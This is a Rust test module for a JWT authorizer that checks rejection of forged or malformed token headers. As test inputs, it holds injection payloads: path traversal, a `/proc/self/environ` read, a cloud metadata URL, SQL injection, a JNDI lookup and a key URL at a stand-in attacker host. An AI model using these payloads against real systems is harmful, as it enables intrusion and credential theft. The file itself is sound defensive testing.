//! Class 2: headers that do not name a key of the issuer, or contain a key, an address or rules of their own.

use authorizer::TokenError;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};
use testkit::authorizer_event::event;
use testkit::issuer::{KEY, OTHER_KEY, with};

use super::fixture::{STRANGER, claims};
use super::table::Expected::{self, Allow};
use super::table::{Case, Class, bad};

pub(super) fn cases() -> Vec<Case> {
    [key_ids(), keys_of_its_own(), rules_of_its_own(), doubles(), controls()].into_iter().flatten().collect()
}

/// Only the header differs: the rest of the token is right.
fn case(name: impl Into<String>, header: &Value, expected: Expected, why: &'static str) -> Case {
    Class::Header.case(name, event(&KEY.token_with(header, &claims())), expected, why)
}

fn with_kid(kid: &Value) -> Value {
    with(KEY.header(), "kid", kid.clone())
}

fn controls() -> Vec<Case> {
    let unknown = "an unknown parameter must be ignored (RFC 7515 section 4)";
    let media_type =
        "`typ` is a media type, in any case, and may leave `application/` out (RFC 7515 section 4.1.9)";
    let typed = [
        "JWT",
        "jwt",
        "application/jwt",
        "Application/JWT",
        "JOSE",
        "application/jose",
        "application/at+jwt",
    ]
    .map(|typ| case(format!("typ {typ}"), &with(KEY.header(), "typ", json!(typ)), Allow, media_type));
    let mut cases = vec![
        case("alg and kid alone", &KEY.header(), Allow, "all that Cognito sends"),
        case("typ at+jwt", &with(KEY.header(), "typ", json!("at+jwt")), Allow, "RFC 9068 section 2.1"),
        case("an unknown parameter", &with(KEY.header(), "x", json!({ "a": [1] })), Allow, unknown),
        case(
            "a thumbprint",
            &with(KEY.header(), "x5t", json!("AAAA")),
            Allow,
            "it names a key and brings none",
        ),
        case("the name of jwk in capitals", &with(KEY.header(), "JWK", STRANGER.jwk()), Allow, unknown),
    ];
    cases.extend(typed);
    cases
}

fn key_ids() -> Vec<Case> {
    let mut cases = Vec::new();
    let why = "the issuer has no key with this id, and no other may stand in (RFC 7515 section 4.1.4)";
    let jwt = KEY.token_of(r#"{"alg":"RS256"}"#, "{}");
    for (name, kid) in [
        ("unknown", "key-9".to_owned()),
        ("in capitals", "KEY-1".to_owned()),
        ("a prefix of a key's", "key-".to_owned()),
        ("a path", "../../../../dev/null".to_owned()),
        ("a file", "file:///proc/self/environ".to_owned()),
        ("an address", "http://169.254.169.254/latest/meta-data/".to_owned()),
        ("SQL", "key-1'/**/OR/**/'1'='1".to_owned()),
        ("a lookup", "${jndi:ldap://evil.example/a}".to_owned()),
        ("__proto__", "__proto__".to_owned()),
        ("another token", jwt[..256].to_owned()),
        ("256 bytes", "k".repeat(256)),
    ] {
        cases.push(case(format!("kid {name}"), &with_kid(&json!(kid)), bad(TokenError::UnknownKey), why));
    }
    let why = "no issuer names a key so: a short, visible text is all that is looked up";
    for (name, kid) in [
        ("empty", String::new()),
        ("a key's and a space", "key-1 ".to_owned()),
        ("a key's and a line end", "key-1\n".to_owned()),
        ("a key's and a NUL", "key-1\0".to_owned()),
        ("SQL with spaces", "key-1' OR '1'='1".to_owned()),
        ("not ASCII", "kéy-1".to_owned()),
        ("257 bytes", "k".repeat(257)),
        ("5,000 bytes", "k".repeat(5_000)),
    ] {
        cases.push(case(format!("kid {name}"), &with_kid(&json!(kid)), bad(TokenError::NoKeyId), why));
    }
    let long = with_kid(&json!("k".repeat(10_000)));
    let why = "the whole token is longer than any gateway passes on, so it is not even decoded";
    cases.push(case("kid 10,000 bytes", &long, bad(TokenError::TooLong), why));
    let why = "`kid` is a text (RFC 7515 section 4.1.4)";
    for kid in [json!(null), json!(1), json!(true), json!(["key-1"]), json!({ "key-1": 1 })] {
        cases.push(case(format!("kid {kid}"), &with_kid(&kid), bad(TokenError::Header), why));
    }
    let why = "without `kid` the gate would have to try keys (RFC 7515 section 4.1.4)";
    cases.push(case("kid missing", &json!({ "alg": "RS256" }), bad(TokenError::NoKeyId), why));
    let elsewhere = json!({ "alg": "RS256", "KID": "key-1" });
    cases.push(case("kid under the name KID", &elsewhere, bad(TokenError::NoKeyId), why));
    cases
}

/// The header contains the key of a stranger, who signed the token. The signature is right for anybody who
/// trusts the header.
fn keys_of_its_own() -> Vec<Case> {
    let why = "a key that the token brings proves nothing (RFC 7515 section 10.3, RFC 8725 section 3.10)";
    let [spki, _] = STRANGER.public_ders();
    let address = "https://evil.example/jwks.json";
    [
        ("jwk", "a stranger's key", STRANGER.jwk()),
        ("jwk", "the pool's own key", KEY.jwk()),
        ("jwk", "null", json!(null)),
        ("jku", "a stranger's address", json!(address)),
        (
            "jku",
            "the pool's own address",
            json!(format!("{}/.well-known/jwks.json", testkit::issuer::ISSUER)),
        ),
        ("jku", "a file", json!("file:///dev/stdin")),
        ("jku", "empty", json!("")),
        ("x5u", "a stranger's address", json!(address)),
        ("x5c", "a stranger's key", json!([STANDARD.encode(spki)])),
        ("x5c", "empty", json!([])),
    ]
    .into_iter()
    .map(|(parameter, name, value)| {
        let token = STRANGER.token_with(&with(STRANGER.header(), parameter, value), &claims());
        let expected = bad(TokenError::ForbiddenHeader(parameter));
        Class::Header.case(format!("{parameter}: {name}"), event(&token), expected, why)
    })
    .collect()
}

/// The pool's own key signed the token, so only the header is wrong.
fn rules_of_its_own() -> Vec<Case> {
    let crit = "what must be understood is not (RFC 7515 section 4.1.11)";
    let other = "the token asks to be read in another way";
    let jwe = "the token says that it is something else (RFC 8725 section 3.11)";
    let mut cases: Vec<Case> = [
        ("crit", json!(["b64"]), crit),
        ("crit", json!(["exp"]), crit),
        ("crit", json!([]), crit),
        ("crit", json!(null), crit),
        ("b64", json!(false), "the payload would not be base64url (RFC 7797 section 3)"),
        ("b64", json!(true), "the payload might not be base64url (RFC 7797 section 3)"),
        ("zip", json!("DEF"), "the payload would be compressed (RFC 7516 section 4.1.3)"),
        ("cty", json!("JWT"), "the payload would be a token in a token (RFC 7519 section 5.2)"),
        ("enc", json!("A128GCM"), "`enc` makes a JWE of it (RFC 7516 section 9)"),
        ("typ", json!("JWE"), jwe),
        ("typ", json!("JOSE+JSON"), jwe),
        ("typ", json!("application/jose+json"), jwe),
        ("typ", json!("text/jwt"), jwe),
        ("typ", json!("application/application/jwt"), jwe),
        ("typ", json!("application/jwt;charset=utf-8"), jwe),
        ("typ", json!("dpop+jwt"), jwe),
        ("typ", json!("logout+jwt"), jwe),
        ("typ", json!("JWT "), jwe),
        ("typ", json!(""), jwe),
    ]
    .into_iter()
    .map(|(name, value, why)| {
        let header = with(KEY.header(), name, value.clone());
        case(format!("{name}: {value}"), &header, bad(TokenError::ForbiddenHeader(name)), why)
    })
    .collect();
    for typ in [json!(null), json!(5), json!(["JWT"])] {
        let header = with(KEY.header(), "typ", typ.clone());
        cases.push(case(format!("typ: {typ}"), &header, bad(TokenError::Header), other));
    }
    cases
}

fn doubles() -> Vec<Case> {
    let why = "two readers could see two headers (RFC 7515 section 4)";
    [
        ("kid twice", r#"{"alg":"RS256","kid":"key-1","kid":"key-2"}"#),
        ("kid twice, the same", r#"{"alg":"RS256","kid":"key-1","kid":"key-1"}"#),
        ("kid twice, once with an escape", r#"{"alg":"RS256","kid":"key-1","k\u0069d":"key-2"}"#),
        ("alg twice, RS256 last", r#"{"alg":"none","alg":"RS256","kid":"key-1"}"#),
        ("alg twice, RS256 first", r#"{"alg":"RS256","alg":"none","kid":"key-1"}"#),
        ("an unknown parameter twice", r#"{"alg":"RS256","kid":"key-1","x":1,"x":1}"#),
        ("a member twice inside an unknown parameter", r#"{"alg":"RS256","kid":"key-1","x":{"a":1,"a":2}}"#),
    ]
    .into_iter()
    .map(|(name, header)| {
        // For a reader that takes the second `kid`, the second key's signature is the right one.
        let key = if name == "kid twice" { &OTHER_KEY } else { &KEY };
        let token = key.token_of(header, claims().to_string());
        Class::Header.case(name, event(&token), bad(TokenError::Header), why)
    })
    .collect()
}
